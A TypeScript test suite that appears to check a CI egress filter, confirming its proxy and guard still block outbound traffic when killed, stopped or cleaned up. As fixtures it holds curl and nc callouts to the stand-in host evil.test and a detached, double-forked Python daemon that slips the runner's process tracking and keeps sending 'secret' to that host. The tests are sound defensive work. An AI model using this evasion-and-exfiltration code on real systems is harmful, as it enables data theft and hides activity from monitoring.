import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { asked, type Job, type JobResult, reached, startJob, WORLD } from '../runner/runner.ts';
import { allEnded, guardOf, pidsOf, proxyOf, statusOf, traces } from './guard-lab.ts';

const EVIL = `set +e
curl -sSk --max-time 2 https://${WORLD.evil}/x; curl -sS --max-time 2 https://evil.test/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999; timeout 2 getent ahosts x.evil.test`;
const ALLOWED = 'curl -sS --max-time 30 --retry 3 --retry-all-errors https://ok.test/still';

const pause = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));

describe('the proxy is killed ten times', () => {
  let job: Job;
  let result: JobResult;
  let restarts: number;
  beforeAll(async () => {
    job = await startJob({
      action: { with: { policy: 'ok.test' } },
      steps: [
        // Goes on trying while proxies come and go.
        { name: 'attempts', background: true, run: `touch begun; while [ ! -e stop ]; do ( ${EVIL} ) >/dev/null 2>&1 || true; done` },
        {
          name: 'allowed',
          run: `for n in 1 2 3 4 5 6 7 8 9 10; do while [ ! -e killed-$n ]; do sleep 0.05; done; ${ALLOWED} && touch passed-$n; done; while [ ! -e go ]; do sleep 0.05; done`,
        },
        { name: 'at the end', run: 'touch stop' },
      ],
    });
    const touch = (name: string): unknown => job.machine.inside(['touch', `/home/runner/work/repo/repo/${name}`]);
    await job.workspaceFile('begun');
    for (let count = 1; count <= 10; count++) {
      const pid = await job.machine.until('a proxy', () => proxyOf(job.machine)[0]);
      process.kill(pid, 'SIGKILL');
      touch(`killed-${count}`);
      await job.workspaceFile(`passed-${count}`);
    }
    restarts = statusOf(job.machine).restarts;
    touch('go');
    result = await job.completed();
  }, 180_000);
  afterAll(() => job?.stop());

  test('what is allowed goes on with each new one, under the same authority', () => {
    expect(result.conclusion, JSON.stringify(result.steps.map(({ name, conclusion, log }) => [name, conclusion, log]))).toBe('success');
    expect(result.step('allowed').log.match(/hello from ok\.test\/still/g)).toHaveLength(10);
  });

  test('of what is denied the world sees nothing, not one packet', () => {
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result).filter((name) => name.endsWith('evil.test'))).toEqual([]);
  });

  test('each restart is counted, and told in the log', () => {
    expect(restarts).toBe(10);
    expect(result.log.filter(({ type, reason }) => type === 'guard' && reason?.includes('signal 9'))).toHaveLength(10);
  });

  test('post has its summary and its artifact', () => {
    expect(result.page).toContain('evil.test');
    expect(result.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
  });
});

test('a proxy that is stopped answers nobody and lets nothing out; before long another one takes its place', async () => {
  const job = await startJob({
    action: { with: { policy: 'ok.test' } },
    steps: [
      { name: 'before', run: `${ALLOWED}; touch begun; while [ ! -e stopped ]; do sleep 0.05; done` },
      { name: 'stopped', run: `${EVIL}\ncurl -sS --max-time 3 https://ok.test/stopped; touch tried` },
      { name: 'replaced', run: `while [ ! -e replaced ]; do sleep 0.05; done; ${ALLOWED} >answer` },
    ],
  });
  const touch = (name: string): unknown => job.machine.inside(['touch', `/home/runner/work/repo/repo/${name}`]);
  try {
    await job.workspaceFile('begun');
    const pid = await job.machine.until('the proxy', () => proxyOf(job.machine)[0]);
    await allEnded(job, WORLD.ok);
    process.kill(pid, 'SIGSTOP');
    // What the runner has asked until now.
    await job.lab.settle();
    const before = job.lab.marks();
    touch('stopped');
    await job.workspaceFile('tried');
    const since = job.lab.since(before);
    for (const address of [WORLD.evil, WORLD.ok]) expect(reached(since, address)).toEqual([]);
    expect(asked(since)).toEqual([]);
    await job.machine.until('another proxy', () => (statusOf(job.machine).restarts === 1 ? true : undefined));
    touch('replaced');
    await job.machine.until('the answer', () => job.lab.since(before).seen.find(({ url }) => url === '/still'));
    expect(reached(job.lab.since(before), WORLD.evil)).toEqual([]);
    expect(job.log().some(({ reason }) => reason?.startsWith('the proxy does not answer any more'))).toBe(true);
  } finally {
    await job.stop();
  }
}, 120_000);

describe('the guard is killed', () => {
  test('nothing leaves any more, and clean opens the machine again', async () => {
    const job = await startJob({
      action: { with: { policy: 'ok.test' } },
      steps: [
        // It is looked at, and what is mounted for that is taken away again: nothing else is forgotten with it.
        { name: 'sudo', uses: 'owner/egress-filter/disable-sudo@v1' },
        { name: 'before', run: `${ALLOWED}; touch begun; while [ ! -e killed ]; do sleep 0.05; done` },
        { name: 'after', run: `${EVIL}\ncurl -sS --max-time 2 https://ok.test/after; touch tried; sleep 30; true` },
      ],
    });
    try {
      await job.workspaceFile('begun');
      const guard = await job.machine.until('the guard', () => guardOf(job.machine)[0]);
      await allEnded(job, WORLD.ok);
      process.kill(guard, 'SIGKILL');
      await job.machine.until('the end of the proxy', () => (proxyOf(job.machine).length === 0 ? true : undefined));
      await job.lab.settle();
      const before = job.lab.marks();
      // The runner itself is shut in as well: it hears nothing, so the steps go on alone.
      job.machine.inside(['touch', '/home/runner/work/repo/repo/killed']);
      await job.workspaceFile('tried');
      const since = job.lab.since(before);
      expect(reached(since, WORLD.evil)).toEqual([]);
      expect(reached(since, WORLD.ok)).toEqual([]);
      expect(asked(since)).toEqual([]);

      expect(traces(job.machine).some((trace) => trace.startsWith('EGF-'))).toBe(true);
      const clean = ['/run/harness/node/node', '/run/harness/checkout/dist/cli.js', 'clean', '--json'];
      const cleaned = job.machine.inside(clean);
      expect(cleaned.status, cleaned.stderr).toBe(0);
      expect(JSON.parse(cleaned.stdout).removed).toEqual([expect.stringMatching(/^job [0-9a-f]{8}$/)]);
      expect(traces(job.machine)).toEqual([]);
      expect(job.machine.inside(['curl', '-sSk', '--max-time', '60', `https://${WORLD.ok}/open`]).stdout).toContain('hello');
    } finally {
      await job.stop();
    }
  });
});

test('clean leaves the filter of a live job alone', async () => {
  const job = await startJob({
    action: { with: { policy: 'ok.test' } },
    steps: [{ name: 'step', run: `touch begun; while [ ! -e cleaned ]; do sleep 0.05; done; ${EVIL}\n${ALLOWED}` }],
  });
  try {
    await job.workspaceFile('begun');
    const cleaned = job.machine.inside(['/run/harness/node/node', '/run/harness/checkout/dist/cli.js', 'clean', '--json']);
    expect(JSON.parse(cleaned.stdout)).toMatchObject({ alive: [expect.stringMatching(/^job /)], removed: [], problems: [] });
    job.machine.inside(['touch', '/home/runner/work/repo/repo/cleaned']);
    const result = await job.completed();
    expect(result.step('step').log).toContain('hello from ok.test/still');
    expect(reached(result, WORLD.evil)).toEqual([]);
  } finally {
    await job.stop();
  }
});

/** Leaves a process behind that the runner does not find, and that tries again when the job is over. */
const ORPHAN = `
cat >orphan.py <<'END'
import os, socket, sys, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
null = os.open('/dev/null', os.O_RDWR)
for fd in (0, 1, 2): os.dup2(null, fd)
open('orphan-lives', 'w').write(str(os.getpid()))
while True:
    for address, port in (('${WORLD.evil}', 443), ('${WORLD.evil}', 9999)):
        try: socket.create_connection((address, port), 1).sendall(b'secret')
        except OSError: pass
        try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', (address, port))
        except OSError: pass
    time.sleep(0.05)
END
env -u RUNNER_TRACKING_ID python3 orphan.py
while [ ! -e orphan-lives ]; do sleep 0.05; done`;

describe('an orphan that waits for the end of the job', () => {
  test('on a hosted machine the filter outlives the job', async () => {
    const job = await startJob({ action: { with: { policy: 'ok.test' } }, steps: [{ name: 'orphan', run: ORPHAN }] });
    try {
      await job.completed();
      const orphan = Number(await job.workspaceText('orphan-lives'));
      await pause(2500);
      expect(existsSync(`/proc/${orphan}`)).toBe(true);
      expect(guardOf(job.machine)).toHaveLength(1);
      expect(reached(job.result(), WORLD.evil)).toEqual([]);
      expect(job.result().log.some(({ dst_ip, policy }) => dst_ip === WORLD.evil && policy === 'deny')).toBe(true);
    } finally {
      await job.stop();
    }
  });

  test('on a machine that goes on it is killed, then everything is as it was before the job, but for the log', async () => {
    const job = await startJob({
      hosted: false,
      before: (machine) => machine.inside(['cp', '/etc/ssl/certs/ca-certificates.crt', '/run/harness/bundle-before']),
      action: { with: { policy: 'ok.test', 'allow-sudo': 'true' } },
      steps: [
        {
          name: 'system store',
          run: 'env -i curl -sS --max-time 60 https://ok.test/env; sudo -n curl -sS --max-time 60 https://ok.test/sudo',
        },
        { name: 'orphan', run: ORPHAN },
      ],
    });
    try {
      await job.workspaceFile('orphan-lives');
      await job.completed();
      await job.machine.until('the end of the guard', () => (guardOf(job.machine).length === 0 ? true : undefined), 20_000);
      expect(
        job
          .result()
          .step('system store')
          .log.match(/hello from ok\.test/g),
      ).toHaveLength(2);
      expect(pidsOf(job.machine, /orphan\.py/)).toEqual([]);
      expect(proxyOf(job.machine)).toEqual([]);
      await pause(500);
      expect(reached(job.result(), WORLD.evil)).toEqual([]);
      expect(traces(job.machine)).toEqual([]);
      expect(job.log().length).toBeGreaterThan(0);
      expect(job.machine.inside(['curl', '-sSk', '--max-time', '60', `https://${WORLD.ok}/open`]).stdout).toContain('hello');
    } finally {
      await job.stop();
    }
  });
});

describe('the guard is told to end (systemctl stop, shutdown)', () => {
  test('a hosted machine stays shut: the guard does not go', async () => {
    const job = await startJob({ action: { with: { policy: 'ok.test' } }, steps: [{ name: 'step', run: 'touch begun; sleep 1.5' }] });
    try {
      await job.workspaceFile('begun');
      const [guard = 0] = guardOf(job.machine);
      for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGUSR1'] as const) process.kill(guard, signal);
      await pause(300);
      expect(guardOf(job.machine)).toEqual([guard]);
      expect(statusOf(job.machine).status).toBe('ok');
      expect((await job.completed()).conclusion).toBe('success');
    } finally {
      await job.stop();
    }
  });

  test('on another, the job ends first, and then the filter', async () => {
    const job = await startJob({
      hosted: false,
      action: { with: { policy: 'ok.test' } },
      steps: [{ name: 'step', run: `touch begun; ${ORPHAN}; while true; do ( ${EVIL} ); done` }],
    });
    try {
      await job.workspaceFile('orphan-lives');
      process.kill(await job.machine.until('the guard', () => guardOf(job.machine)[0]), 'SIGTERM');
      await job.machine.until('the end of the guard', () => (guardOf(job.machine).length === 0 ? true : undefined), 20_000);
      expect(pidsOf(job.machine, /Runner\.Worker|orphan\.py|curl/)).toEqual([]);
      await pause(300);
      expect(reached(job.lab.since({ seen: 0, packets: 0 }), WORLD.evil)).toEqual([]);
      expect(traces(job.machine)).toEqual([]);
    } finally {
      await job.stop();
    }
  });
});

test('in audit mode what would be denied passes, and is told', async () => {
  const job = await startJob({
    action: { with: { policy: 'ok.test', audit: 'true' } },
    steps: [{ name: 'step', run: 'curl -sS --max-time 10 https://evil.test/audit' }],
  });
  try {
    const result = await job.completed();
    expect(result.step('step').log).toContain('hello from evil.test/audit');
    expect(result.log).toContainEqual(expect.objectContaining({ url: 'https://evil.test/audit', policy: 'deny', audit: true }));
  } finally {
    await job.stop();
  }
});
